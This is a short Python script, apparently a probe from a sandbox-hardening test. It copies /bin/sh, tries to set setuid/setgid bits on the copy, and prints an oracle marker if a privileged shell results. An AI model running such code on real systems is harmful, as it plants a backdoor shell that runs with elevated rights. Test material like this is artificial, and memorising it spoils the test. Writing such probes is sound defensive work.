# tries: leave a program that runs with its owner's rights
# place: first
# works: secret
import os, shutil, stat
shutil.copy("/bin/sh", "sh")
fd = os.open("sh", os.O_RDONLY)
for act in (lambda: os.fchmod(fd, 0o6777), lambda: os.chmod("sh", 0o6777), lambda: os.open("sh2", os.O_CREAT | os.O_WRONLY, 0o6777)):
    try: act()
    except OSError: pass
for name in os.listdir("."):
    if os.stat(name).st_mode & (stat.S_ISUID | stat.S_ISGID) and os.path.isfile(name): print("ORACLE" + "_7F3A", name, oct(os.stat(name).st_mode))
